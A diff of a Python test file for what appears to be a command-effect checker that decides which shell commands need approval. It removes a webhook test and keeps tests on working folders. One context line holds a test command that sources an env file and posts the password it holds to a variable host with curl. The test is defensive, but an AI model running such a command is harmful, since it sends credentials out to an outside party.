@@ -96,12 +96,6 @@ def test_not_where_the_session_wrote_the_file() -> None:
     assert one.bash("source .env.e2e && curl -d \"$E2E_PASS\" $X").effect == ASK
 
 
-def test_a_webhook_that_a_program_takes_from_its_variable() -> None:
-    code = "import os, requests\nrequests.post(os.environ['DISCORD_WEBHOOK'], json={'content': 'done'})\n"
-    found = read("python3 a.py", "/p", texts={"a.py": code}).effects
-    assert [e.destination for e in found] == ["$DISCORD_WEBHOOK"]
-
-
 @pytest.mark.parametrize(("command", "where"), [
     ("env -C src ls", "/p/src"), ("env --chdir=src A=1 ls", "/p/src"), ("sudo -u bob -D /srv ls", "/srv"), ("env A=1 ls", "/p"), ("env -C src true; ls", "/p")])
 def test_a_wrapper_runs_it_in_the_folder_that_it_is_told(command, where):
